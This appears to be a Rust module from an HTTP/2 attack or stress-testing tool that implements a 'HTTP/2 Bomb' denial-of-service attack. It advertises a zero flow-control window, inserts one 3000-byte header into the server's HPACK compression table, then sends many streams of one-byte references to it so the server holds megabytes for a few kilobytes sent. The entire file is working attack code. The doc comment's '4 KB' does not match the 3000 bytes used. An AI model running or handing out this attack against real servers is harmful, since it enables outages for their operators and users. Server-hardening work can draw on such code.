//! The HTTP/2 Bomb: one large field goes into the compression table once and is then referred to by single bytes, on
//! many streams whose answers the client never takes (window 0). A few kilobytes sent become megabytes held.

use super::Outcome;
use super::frames::{END_HEADERS, END_STREAM, HEADERS, Peer, frame, request};
use crate::Target;
use anyhow::Result;
use std::time::Duration;

const SETTING_INITIAL_WINDOW: u16 = 4;

/// So many streams, each with so many one-byte references to a 4 KB field.
pub async fn run(target: &Target, path: &str, streams: u32, references: usize) -> Result<Outcome> {
    let mut peer = Peer::connect(target, &[(SETTING_INITIAL_WINDOW, 0)]).await?;
    // Literal with incremental indexing (RFC 7541 §6.2.1); the newest entry of the table has index 62.
    let mut first = request("GET", &target.authority(), path);
    first.extend([0x40, 1, b'x', 0x7f, 0x80 | (3000 - 127_u16) as u8 & 0x7f, ((3000 - 127) >> 7) as u8]);
    first.extend([b'a'; 3000]);
    let mut bytes = frame(HEADERS, END_STREAM | END_HEADERS, 1, &first);
    for number in 1..streams {
        let mut block = request("GET", &target.authority(), path);
        block.extend(std::iter::repeat_n(0x80 | 62, references));
        bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, number * 2 + 1, &block));
    }
    let _ = peer.send(&bytes).await;
    peer.end(Duration::from_secs(5)).await
}
